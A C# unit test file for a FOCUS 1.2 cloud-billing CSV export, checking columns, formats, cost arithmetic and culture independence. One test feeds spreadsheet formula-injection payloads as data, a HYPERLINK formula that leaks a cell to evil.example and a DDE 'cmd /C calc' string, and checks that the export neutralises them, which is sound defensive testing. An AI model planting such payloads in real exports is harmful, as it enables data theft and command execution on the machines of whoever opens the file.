using System.Globalization;
using System.Text.RegularExpressions;
using CsCheck;
using CsvHelper;

namespace Hivemind.Tenancy.Billing.Tests;

/// <summary>What is written is read back with the library, and held against the specification.</summary>
public sealed partial class FocusExportTests
{
    /// <summary>
    /// The columns that FOCUS 1.2 calls mandatory: "Feature level" in https://github.com/FinOps-Open-Cost-and-Usage-Spec/FOCUS_Spec/tree/v1.2/specification/columns.
    /// </summary>
    private static readonly string[] Mandatory =
    [
        "BilledCost", "BillingAccountId", "BillingAccountName", "BillingCurrency", "BillingPeriodEnd", "BillingPeriodStart", "ChargeCategory", "ChargeClass", "ChargeDescription",
        "ChargePeriodEnd", "ChargePeriodStart", "ContractedCost", "EffectiveCost", "InvoiceIssuerName", "ListCost", "PricingQuantity", "PricingUnit", "ProviderName", "PublisherName",
        "ServiceCategory", "ServiceName",
    ];

    /// <summary>All others that FOCUS 1.2 has, from the same place.</summary>
    private static readonly string[] ConditionalOrRecommended =
    [
        "AvailabilityZone", "BillingAccountType", "CapacityReservationId", "CapacityReservationStatus", "ChargeFrequency", "CommitmentDiscountCategory", "CommitmentDiscountId",
        "CommitmentDiscountName", "CommitmentDiscountQuantity", "CommitmentDiscountStatus", "CommitmentDiscountType", "CommitmentDiscountUnit", "ConsumedQuantity", "ConsumedUnit",
        "ContractedUnitPrice", "InvoiceId", "ListUnitPrice", "PricingCategory", "PricingCurrency", "PricingCurrencyContractedUnitPrice", "PricingCurrencyEffectiveCost",
        "PricingCurrencyListUnitPrice", "RegionId", "RegionName", "ResourceId", "ResourceName", "ResourceType", "ServiceSubcategory", "SkuId", "SkuMeter", "SkuPriceDetails", "SkuPriceId",
        "SubAccountId", "SubAccountName", "SubAccountType", "Tags",
    ];

    /// <summary>Columns that the specification lets be null, of those that are written.</summary>
    private static readonly string[] Nullable = ["ChargeClass", "SkuPriceDetails"];

    private static readonly FocusOptions Options = new() { ProviderName = "Example Cloud", ServiceName = "Containers" };

    private static readonly PriceList Prices = Lists.Of(
        Lists.Tiered("cpu", (10, 0.0333m), (null, 0.02m)) with { Included = 1 },
        new Price { Resource = "memory", UnitSize = 1L << 30, Per = PricePer.Month, Amount = 2.5m },
        new Price { Resource = "storage", UnitSize = 1L << 30, Per = PricePer.Month, Amount = 0.1m },
        new Price { Resource = "nvidia.com/gpu", Unit = "GPU", Amount = 1.1m },
        new Price { Resource = "tokens", Per = PricePer.Use, UnitSize = 1000, Unit = "1000 Tokens", Amount = 0.002m });

    private static readonly Statement June = Lists.Statement(Lists.Rate(
        Prices,
        Lists.Hours("cpu", 12m),
        new MeteredQuantity("memory", false, (Quantity)(3L << 30) * 100.000001m),
        new MeteredQuantity("storage", false, 1m),
        Lists.Hours("nvidia.com/gpu", 2m),
        new MeteredQuantity("tokens", true, 123456m)));

    [Fact]
    public async Task Mandatory_columns_are_there_and_others_are_of_the_specification_or_ours()
    {
        string[] header = [.. (await RowsAsync(Options, June))[0].Keys];

        header.Should().Contain(Mandatory).And.OnlyHaveUniqueItems();
        header.Where(c => !c.StartsWith("x_", StringComparison.Ordinal)).Should().BeSubsetOf([.. Mandatory, .. ConditionalOrRecommended]).And.BeInAscendingOrder(StringComparer.Ordinal);
        header.SkipWhile(c => !c.StartsWith("x_", StringComparison.Ordinal)).Should().NotBeEmpty().And.OnlyContain(c => CustomColumn().IsMatch(c), "own columns stand last");
    }

    [Fact]
    public async Task Values_have_the_specification_s_formats()
    {
        IReadOnlyList<Dictionary<string, string?>> rows = await RowsAsync(Options, June);

        rows.Should().HaveCount(7);
        foreach ((string column, string? value) in rows.SelectMany(r => r))
        {
            (string.IsNullOrEmpty(value) && !Nullable.Contains(column)).Should().BeFalse($"{column} may not be null");
            if (column.Contains("Period", StringComparison.Ordinal))
            {
                value.Should().MatchRegex("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$", "DateTimeFormat");
            }

            if (column.EndsWith("Cost", StringComparison.Ordinal) || column.EndsWith("Quantity", StringComparison.Ordinal) || column.EndsWith("UnitPrice", StringComparison.Ordinal))
            {
                value.Should().MatchRegex(@"^[0-9]+(\.[0-9]+)?$", "NumericFormat");
            }
        }

        rows.Select(r => r["ChargeCategory"]).Should().AllBe("Usage");
        rows.Select(r => r["ChargeFrequency"]).Should().AllBe("Usage-Based");
        rows.Select(r => r["PricingCategory"]).Should().AllBe("Standard");
        rows.Select(r => r["BillingCurrency"]).Should().AllBe("EUR");
        rows.Select(r => r["BillingPeriodStart"]).Should().AllBe("2026-06-01T00:00:00Z");
        rows.Select(r => r["BillingPeriodEnd"]).Should().AllBe("2026-07-01T00:00:00Z");
        rows.Select(r => r["ServiceCategory"]).Should().Equal("Compute", "Compute", "Compute", "Compute", "Other", "Storage", "Other");
        rows.Select(r => r["PricingUnit"]).Should().Equal("Core-Hours", "Core-Hours", "Core-Hours", "GiB-Months", "GPU-Hours", "GiB-Months", "1000 Tokens");
        rows.Select(r => r["SkuPriceId"]).Should().OnlyHaveUniqueItems().And.Contain("default/2020-01-01/cpu/2");
        rows[0]["BillingAccountId"].Should().Be($"acme@{June.TenantUid}");
        rows[6]["ChargeDescription"].Should().Be("tokens, tier 1: 123.456 x 1000 Tokens at 0.002 EUR");
    }

    [Fact]
    public async Task Costs_are_quantities_times_prices_and_bills_add_up_to_the_total()
    {
        IReadOnlyList<Dictionary<string, string?>> rows = await RowsAsync(Options, June);

        foreach (Dictionary<string, string?> row in rows)
        {
            (Number(row, "PricingQuantity") * Number(row, "ListUnitPrice")).Should().Be(Number(row, "ListCost"), "the specification says MUST match");
            (Number(row, "PricingQuantity") * Number(row, "ContractedUnitPrice")).Should().Be(Number(row, "ContractedCost"));
            row["EffectiveCost"].Should().Be(row["BilledCost"]);
        }

        rows.Sum(r => decimal.Parse(r["BilledCost"]!, CultureInfo.InvariantCulture)).Should().Be(June.Total);
        rows.Where(r => r["SkuMeter"] == "cpu").Aggregate(Quantity.Zero, (sum, r) => sum + Number(r, "ConsumedQuantity")).Should().Be((Quantity)(12m * 3600));
        rows.Single(r => r["SkuMeter"] == "memory")["ConsumedQuantity"].Should().Be("322122550421.225472");
    }

    [Theory]
    [InlineData("de-DE")]
    [InlineData("ar-SA")]
    public async Task Cultures_change_nothing(string culture)
    {
        string expected = await CsvAsync(Options, June);
        CultureInfo before = CultureInfo.CurrentCulture;
        CultureInfo hostile = (CultureInfo)CultureInfo.InvariantCulture.Clone();
        hostile.NumberFormat.NumberDecimalSeparator = culture == "de-DE" ? "," : "٫";
        hostile.NumberFormat.NegativeSign = "−";
        hostile.DateTimeFormat.TimeSeparator = ".";
        try
        {
            CultureInfo.CurrentCulture = hostile;
            (await CsvAsync(Options, June)).Should().Be(expected);
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }

    /// <summary>RFC 4180 keeps what is inside a cell, and what a spreadsheet would run is kept from running.</summary>
    [Theory]
    [InlineData("a \"quoted\", and\r\nbroken name", "a \"quoted\", and\r\nbroken name")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("Ünïcode 漢字 🧾", "Ünïcode 漢字 🧾")]
    public async Task Hostile_text_is_read_back(string text, string cell)
    {
        FocusOptions options = new() { ProviderName = text, ServiceName = text, PublisherName = text, InvoiceIssuerName = text };

        IReadOnlyList<Dictionary<string, string?>> rows = await RowsAsync(options, June with { PriceList = text });

        rows.Should().HaveCount(7);
        foreach (string column in (string[])["ProviderName", "ServiceName", "PublisherName", "InvoiceIssuerName", "x_PriceList"])
        {
            rows.Select(r => r[column]).Should().AllBe(cell);
        }
    }

    [Fact]
    public void Any_text_is_read_back() => Gen.String.Where(t => !string.IsNullOrWhiteSpace(t) && !t.Contains('\0') && !t.Any(char.IsSurrogate)).Sample(
        text =>
        {
            string cell = RowsAsync(new() { ProviderName = text, ServiceName = "x" }, June).AsTask().GetAwaiter().GetResult()[0]["ProviderName"]!;
            return cell == ("=+-@\t\r".Contains(text[0]) ? "'" + text : text);
        },
        iter: 300);

    [Fact]
    public async Task Statements_come_one_by_one()
    {
        using StringWriter writer = new();
        List<int> lengths = [];

        await FocusExport.WriteCsvAsync(writer, Statements(), Options, TestContext.Current.CancellationToken);

        Parse(writer.ToString()).Should().HaveCount(21);
        lengths.Should().Equal(0, 1, 2);

        async IAsyncEnumerable<Statement> Statements()
        {
            for (int i = 0; i < 3; i++)
            {
                await Task.Yield();
                lengths.Add(i);
                yield return June;
            }
        }
    }

    [Fact]
    public void Options_say_what_is_allowed()
    {
        FluentActions.Invoking(() => new FocusOptions { ProviderName = " ", ServiceName = "x" }).Should().Throw<ArgumentException>().WithMessage("ProviderName is ' '*");
        FluentActions.Invoking(() => new FocusOptions { ProviderName = "x", ServiceName = "x", ServiceCategories = new Dictionary<string, string> { ["tokens"] = "AI" } })
            .Should().Throw<ArgumentException>().WithMessage("'AI' is no ServiceCategory of FOCUS; allowed: AI and Machine Learning, *");
        FocusColumns.ServiceCategories.Should().HaveCount(19);
    }

    [Fact]
    public async Task The_billing_account_has_the_name_of_its_tenant_and_its_id_where_the_name_is_not_known()
    {
        (await RowsAsync(Options, June with { TenantName = "Acme, \"Ltd\"" })).Select(r => r["BillingAccountName"]).Should().AllBe("Acme, \"Ltd\"");
        (await RowsAsync(Options, June with { TenantName = "=1+1" })).Select(r => r["BillingAccountName"]).Should().AllBe("'=1+1");
        (await RowsAsync(Options, June)).Select(r => r["BillingAccountName"]).Should().AllBe("acme");
    }

    [Fact]
    public async Task A_category_is_the_host_s_to_say()
    {
        FocusOptions options = Options with { ServiceCategories = new Dictionary<string, string> { ["tokens"] = "AI and Machine Learning" } };

        (await RowsAsync(options, June)).Select(r => r["ServiceCategory"]).Should().EndWith("AI and Machine Learning");
    }

    private static Quantity Number(Dictionary<string, string?> row, string column) => Quantity.Parse(row[column]!);

    private static async ValueTask<IReadOnlyList<Dictionary<string, string?>>> RowsAsync(FocusOptions options, Statement statement) => Parse(await CsvAsync(options, statement));

    private static List<Dictionary<string, string?>> Parse(string csv)
    {
        using CsvReader reader = CsvReader.FromText(csv);
        List<Dictionary<string, string?>> rows = [];
        foreach (CsvRow row in reader)
        {
            rows.Add(row.ToDictionary().ToDictionary(f => f.Key, f => (string?)f.Value));
        }

        return rows;
    }

    private static async ValueTask<string> CsvAsync(FocusOptions options, Statement statement)
    {
        using StringWriter writer = new();
        await FocusExport.WriteCsvAsync(writer, new[] { statement }.ToAsyncEnumerable(), options, TestContext.Current.CancellationToken);
        return writer.ToString();
    }

    [GeneratedRegex("^x_[A-Z][A-Za-z]+$")]
    private static partial Regex CustomColumn();
}
